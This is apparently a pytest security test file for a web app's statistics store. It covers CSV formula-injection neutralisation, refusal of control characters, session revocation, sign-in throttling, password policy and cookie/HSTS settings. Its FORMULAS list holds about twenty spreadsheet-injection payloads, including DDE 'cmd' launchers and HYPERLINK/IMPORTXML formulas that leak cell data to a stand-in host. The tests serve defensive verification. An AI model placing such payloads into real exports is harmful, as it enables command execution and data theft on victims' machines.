"""Issue 24, the store's part: exports safe to open in a spreadsheet (M3), sessions that end (M5),
throttled sign-in at one cost for known and unknown names and a password policy (M4), cookie flags
and HSTS by configuration (M6), and the small ones: the database file 0600, NUL and bidirectional
controls refused in imported texts."""

from __future__ import annotations

import csv
import io
import os
import stat

import pytest

from test_store import PASSWORD, csrf, csv_bytes, make_app, sign_in
from webapp.store import db as store_module
from webapp.store.stats_io import FORMULA_START, export_csv
from webapp.store.db import MIN_PASSWORD, SIGNIN_MAX_PER_CLIENT, SIGNIN_MAX_PER_NAME, StoreError

# 20 texts a spreadsheet takes for a formula (OWASP "CSV Injection" and the audit's payloads)
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd|' /C calc'!A0",
    "-@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=IMAGE("http://x.example")',
]


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    return make_app(tmp_path_factory.mktemp("sec_store") / "atlas.sqlite3")


@pytest.fixture()
def store(app):
    return app.extensions["store"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ---- M3: CSV formula injection ------------------------------------------------------------------


def test_twenty_formula_texts_are_neutralised_on_export(app):
    method = app.extensions["atlas"].method
    stored = [
        {
            "town_id": "rudny",
            "input": "mono_output_share",
            "value": 10.0 + i,
            "period": f,
            "source": f,
            "note": f,
        }
        for i, f in enumerate(FORMULAS)
    ]
    rows = _rows(export_csv(stored, method))
    assert len(rows) == 21
    for row in rows[1:]:
        for cell in row[1:4]:  # year, source, note
            assert not cell.startswith(FORMULA_START), row
            assert cell[0] == "'" and cell[1:] in FORMULAS, row
    assert sorted(r[2][1:] for r in rows[1:]) == sorted(FORMULAS)
    # numbers stay numbers (a negative value is a value, not a formula)
    negative = [
        {
            "town_id": "kentau",
            "input": "demo_natural_growth",
            "value": -3.5,
            "period": "2024",
            "source": "stat.gov.kz",
            "note": "",
        }
    ]
    header, row = _rows(export_csv(negative, method))
    assert row[header.index("demo_natural_growth")] == "-3.5"


def test_formula_texts_imported_are_exported_neutralised_and_read_back_as_they_were(
    app, store, tmp_path
):
    client = app.test_client()
    token = sign_in(client)
    sent = FORMULAS[:12] + FORMULAS[15:]  # leading tab, CR and LF are trimmed by the import
    towns = sorted(app.extensions["atlas"].metas)[: len(sent)]  # exported: a town's current values
    quoted = [f.replace('"', '""') for f in sent]
    lines = [f'{t},2029,"{f}",{i},1' for i, (t, f) in enumerate(zip(towns, quoted))]
    r = client.post(
        "/api/statistics",
        data=csv_bytes(*lines),
        headers={"X-CSRF-Token": token},
        content_type="text/csv",
    )
    assert r.status_code == 200, r.get_json()
    exported = client.get("/api/statistics/export.csv").get_data(as_text=True)
    sources = [row[2] for row in _rows(exported)[1:] if row[0] in towns and row[1] == "2029"]
    assert sorted(s[1:] for s in sources if s.startswith("'")) == sorted(sent)
    assert not any(s.startswith(FORMULA_START) for row in _rows(exported) for s in row[:4])
    runner = app.test_cli_runner()
    out = tmp_path / "export.csv"
    assert runner.invoke(args=["export-stats", str(out)]).exit_code == 0
    assert out.read_text(encoding="utf-8") == exported  # the command writes the same safe file

    def mine():
        return {
            (v["town_id"], v["input"], v["source"])
            for v in store.current()
            if v["period"] == "2029"
        }

    before = mine()
    assert len(before) == 2 * len(sent)
    assert runner.invoke(args=["import-stats", str(out)]).exit_code == 0  # the export read back ...
    assert mine() == before  # ... stores the texts as they were, without the quote
    app.extensions["atlas"].rollback(1, editor="test cleanup")


# ---- item 7: NUL and bidirectional controls ------------------------------------------------------


@pytest.mark.parametrize(
    "char",
    [
        "\x00",
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200f",
        "\u061c",
        "\x1b",
    ],
)
@pytest.mark.parametrize("column", ["source", "year"])
def test_control_characters_in_imported_texts_are_refused(app, store, char, column):
    client = app.test_client()
    token = sign_in(client)
    head = store.head()
    text = f"Akimat{char}report"
    row = f"rudny,2023,{text},70,30" if column == "source" else f"rudny,20{char}23,doc,70,30"
    r = client.post(
        "/api/statistics",
        data=csv_bytes(row),
        headers={"X-CSRF-Token": token},
        content_type="text/csv",
    )
    assert r.status_code == 400
    problem = " ".join(r.get_json()["problems"])
    assert f"column '{column}'" in problem and f"control character U+{ord(char):04X}" in problem
    assert char not in problem  # named, not echoed
    assert store.head() == head


def test_plain_texts_in_any_script_are_accepted(app, store):
    client = app.test_client()
    token = sign_in(client)
    row = "rudny,2023,Әкімдік есебі — отчёт «Рудный»,70,30"
    r = client.post(
        "/api/statistics",
        data=csv_bytes(row),
        headers={"X-CSRF-Token": token},
        content_type="text/csv",
    )
    assert r.status_code == 200, r.get_json()
    app.extensions["atlas"].rollback(1, editor="test cleanup")


# ---- item 7: the database file ------------------------------------------------------------------


def test_the_database_file_is_readable_by_its_owner_only(tmp_path):
    db = tmp_path / "inst" / "atlas.sqlite3"
    app = make_app(db)
    assert stat.S_IMODE(os.stat(db).st_mode) == 0o600
    app.extensions["store"].dispose()
    db.chmod(0o644)  # a file made before the fix is made private at the next start
    make_app(db).extensions["store"].dispose()
    assert stat.S_IMODE(os.stat(db).st_mode) == 0o600


# ---- M5: sessions end --------------------------------------------------------------------------


def _copy_session(source, target) -> None:
    cookie = source.get_cookie("session")
    target.set_cookie("session", cookie.value)


def _signed_in(client) -> bool:
    return (
        client.get("/api/statistics/revisions").status_code == 200
        and b"signed-in" in client.get("/data").data
    )


def _editor(store, name: str, password: str = PASSWORD) -> None:
    if not store.editor_exists(name):
        store.add_editor(name, password)


def test_a_saved_cookie_no_longer_works_after_logout(app, store):
    _editor(store, "lena")
    client, saved = app.test_client(), app.test_client()
    token = sign_in(client, "lena")
    _copy_session(client, saved)
    assert _signed_in(saved)
    assert client.post("/logout", headers={"X-CSRF-Token": token}).status_code == 302
    assert not _signed_in(client)
    assert not _signed_in(saved)  # the copy made before the sign-out: ended too
    r = saved.post(
        "/api/statistics",
        data=csv_bytes("rudny,2023,doc,70,30"),
        content_type="text/csv",
        headers={"X-CSRF-Token": token},
    )
    assert r.status_code == 401


@pytest.mark.parametrize(
    "change",
    [
        ["remove-editor", "{n}"],
        ["disable-editor", "{n}"],
        ["set-password", "{n}", "--password", "a-brand-new-secret"],
    ],
)
def test_removing_disabling_or_repasswording_an_editor_ends_their_sessions(app, store, change):
    name = f"ed-{change[0]}"
    _editor(store, name)
    client = app.test_client()
    sign_in(client, name)
    assert _signed_in(client)
    r = app.test_cli_runner().invoke(args=[part.format(n=name) for part in change])
    assert r.exit_code == 0, r.output
    assert not _signed_in(client)
    fresh = app.test_client()
    form = {"name": name, "password": PASSWORD, "csrf_token": csrf(fresh, "/login")}
    login = fresh.post("/login", data=form)
    assert login.status_code == 401  # the old password (or the account) no longer signs in


def test_editor_commands(app, store):
    runner = app.test_cli_runner()
    _editor(store, "olga")
    assert runner.invoke(args=["disable-editor", "olga"]).exit_code == 0
    assert not store.check_editor("olga", PASSWORD)
    assert runner.invoke(args=["enable-editor", "olga"]).exit_code == 0
    assert store.check_editor("olga", PASSWORD)
    r = runner.invoke(args=["set-password", "olga"], input="steppe-eagle-77\nsteppe-eagle-77\n")
    assert r.exit_code == 0 and store.check_editor("olga", "steppe-eagle-77")
    assert runner.invoke(args=["remove-editor", "olga"]).exit_code == 0
    assert not store.editor_exists("olga")
    for command in ("disable-editor", "enable-editor", "remove-editor"):
        r = runner.invoke(args=[command, "nobody"])
        assert r.exit_code != 0 and "editor 'nobody' does not exist" in r.output
    r = runner.invoke(args=["set-password", "anna", "--password", "12345678"])
    assert r.exit_code != 0 and f"at least {MIN_PASSWORD} characters" in r.output


# ---- M4: sign-in --------------------------------------------------------------------------------


def _login(app, name, password, client_ip):
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = client_ip
    return client.post(
        "/login", data={"name": name, "password": password, "csrf_token": csrf(client, "/login")}
    )


def test_sign_in_is_throttled_per_name(app, store):
    _editor(store, "pavel")
    for i in range(SIGNIN_MAX_PER_NAME):
        assert _login(app, "pavel", f"guess-{i}", f"10.1.0.{i}").status_code == 401  # 5 addresses
    r = _login(app, "pavel", PASSWORD, "10.1.0.99")  # the right password, a new address: refused
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
    assert "Too many failed sign-ins" in r.get_data(as_text=True)
    assert _login(app, "anna", PASSWORD, "10.1.0.99").status_code == 302  # another name: not held
    store.record_signin("pavel", "10.1.0.99", ok=True)  # (as after the window: failures forgotten)
    assert _login(app, "pavel", PASSWORD, "10.1.0.99").status_code == 302


def test_sign_in_is_throttled_per_client(app, store):
    for i in range(SIGNIN_MAX_PER_CLIENT):
        assert _login(app, f"guess{i}", "not-the-password", "10.2.0.1").status_code == 401
    r = _login(app, "anna", PASSWORD, "10.2.0.1")
    assert r.status_code == 429
    r = _login(app, "anna", PASSWORD, "10.2.0.2")  # other clients sign in as usual
    assert r.status_code == 302


def test_throttled_messages_in_every_language(app):
    for i in range(SIGNIN_MAX_PER_NAME):
        _login(app, "lang-test", "x", "10.3.0.1")
    for lang, words in (("ru", "Слишком много"), ("kk", "тым көп"), ("en", "Too many")):
        client = app.test_client()
        client.environ_base["REMOTE_ADDR"] = "10.3.0.2"
        form = {
            "name": "lang-test",
            "password": "x",
            "lang": lang,
            "csrf_token": csrf(client, "/login"),
        }
        r = client.post(f"/login?lang={lang}", data=form)
        assert r.status_code == 429 and words in r.get_data(as_text=True), lang


def test_known_and_unknown_names_cost_one_password_hash_each(store, monkeypatch):
    _editor(store, "ivan")
    store_module._dummy_hash()  # made once per process
    calls = {"check": 0, "make": 0}
    real_check, real_make = store_module.check_password_hash, store_module.generate_password_hash

    def check(*a):
        calls["check"] += 1
        return real_check(*a)

    def make(*a, **kw):
        calls["make"] += 1
        return real_make(*a, **kw)

    monkeypatch.setattr(store_module, "check_password_hash", check)
    monkeypatch.setattr(store_module, "generate_password_hash", make)
    for name in ("ivan", "no-such-editor"):
        calls.update(check=0, make=0)
        assert not store.check_editor(name, "wrong-password-here")
        assert calls == {"check": 1, "make": 0}, name


@pytest.mark.parametrize(
    "password, rule",
    [
        ("12345678", "at least 12"),
        ("short-pass1", "at least 12"),
        ("qwerty123456", "most common"),
        ("QWERTY123456", "most common"),
        ("1qaz2wsx3edc", "most common"),
        ("aaaaaaaaaaaaaa", "repeat"),
        ("Timur-Almaty-1", "name"),
    ],
)
def test_password_policy(store, password, rule):
    with pytest.raises(StoreError, match=rule):
        store.add_editor("timur-almaty-1", password)
    assert not store.editor_exists("timur-almaty-1")


def test_the_common_password_list_is_read(store):
    common = store_module.common_passwords()
    assert len(common) > 250 and "qwerty123456" in common
    assert all(len(p) >= MIN_PASSWORD for p in common)


# ---- M6: cookie flags and HSTS -------------------------------------------------------------------


def _session_cookie_header(app) -> str:
    client = app.test_client()
    r = client.get("/login")
    return next(v for k, v in r.headers.items() if k == "Set-Cookie" and v.startswith("session="))


def test_cookie_is_samesite_lax_and_httponly_without_hsts_by_default(app):
    header = _session_cookie_header(app)
    assert "SameSite=Lax" in header and "HttpOnly" in header and "Secure" not in header
    assert "Strict-Transport-Security" not in app.test_client().get("/login").headers


def test_secure_cookie_and_hsts_by_configuration(tmp_path):
    app = make_app(tmp_path / "tls.sqlite3", SESSION_COOKIE_SECURE=True, HSTS_SECONDS=31536000)
    header = _session_cookie_header(app)
    assert "Secure" in header and "SameSite=Lax" in header
    assert (
        app.test_client().get("/").headers["Strict-Transport-Security"]
        == "max-age=31536000; includeSubDomains"
    )
    app.extensions["store"].dispose()


def test_secure_cookie_and_hsts_from_the_environment(tmp_path, monkeypatch):
    monkeypatch.setenv("SESSION_COOKIE_SECURE", "1")
    monkeypatch.setenv("HSTS_SECONDS", "600")
    app = make_app(tmp_path / "env.sqlite3")
    assert "Secure" in _session_cookie_header(app)
    hsts = app.test_client().get("/login").headers["Strict-Transport-Security"]
    assert hsts.startswith("max-age=600;")
    app.extensions["store"].dispose()


# ---- item 7: staging folders left by a crash ---------------------------------------------------


def _aged(folder, seconds: float):
    folder.mkdir(parents=True)
    (folder / "roads.osm.pbf").write_bytes(b"partial upload")
    then = os.stat(folder).st_mtime - seconds
    os.utime(folder, (then, then))
    return folder


def test_staging_folders_left_by_a_crash_are_removed_at_start(tmp_path):
    from webapp.pages.networks import STAGING_GRACE_S

    nets = tmp_path / "nets"
    left = _aged(nets / ".upload-crashed", STAGING_GRACE_S + 60)
    fresh = _aged(nets / ".upload-being-saved", 5)  # another server's upload in progress
    other = _aged(nets / ".tmp-roads-1234", STAGING_GRACE_S + 60)  # not a staging folder: kept
    app = make_app(tmp_path / "atlas.sqlite3", NETWORKS_ROOT=str(nets))
    assert not left.exists() and fresh.exists() and other.exists()
    app.extensions["store"].dispose()


def test_staging_folders_are_kept_while_an_import_runs(tmp_path):
    from webapp.pages.networks import JOB, STAGING_GRACE_S
    from webapp.store.db import JOB_MAX_S, Store

    nets = tmp_path / "nets"
    db = tmp_path / "atlas.sqlite3"
    running = Store(f"sqlite:///{db}")
    running.migrate()
    assert running.job_start(JOB, {"state": "running"}, run="elsewhere", max_s=JOB_MAX_S)
    running.dispose()
    in_use = _aged(nets / ".upload-importing", STAGING_GRACE_S + 60)  # the running import's file
    ancient = _aged(nets / ".upload-ancient", JOB_MAX_S + 60)
    app = make_app(db, NETWORKS_ROOT=str(nets))
    assert in_use.exists() and not ancient.exists()
    app.extensions["store"].dispose()
